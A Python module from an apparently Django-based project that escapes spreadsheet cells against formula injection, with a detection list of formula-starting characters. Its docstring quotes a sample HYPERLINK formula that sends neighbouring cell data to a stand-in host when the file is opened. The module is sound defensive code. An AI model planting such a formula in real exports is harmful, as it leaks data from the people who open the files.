"""Cell values for the CSV and Excel files the project writes.

Titles, summaries, unit names and follow-ups are typed by citizens and staff, and a spreadsheet program
runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula: ``=HYPERLINK("http://x?d="&A2,…)``
in a published title sends the neighbouring cells away when an official opens the open-data file.
OWASP's and ASVS 1.2.10's remedy is an apostrophe in front of such text; it is visible, which is the point
(the cell shows what was typed, as text), and it is lossless (strip one leading apostrophe to get it back).
"""

from __future__ import annotations

from typing import Any

from django.utils.functional import Promise

# The formula starters, the control characters some programs skip before one, and their full-width forms,
# which Excel accepts as the ASCII ones when typed through a CJK input method.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV field or an openpyxl cell value that no spreadsheet runs as a formula.

    Only text changes: a number, a date or a boolean is data the program should read as such (-5 stays the
    number -5), while the text "-5" is prefixed like any other. Lazy translations become plain text, so
    openpyxl stores them as strings (data type ``s``) and never as formulas (``f``)."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
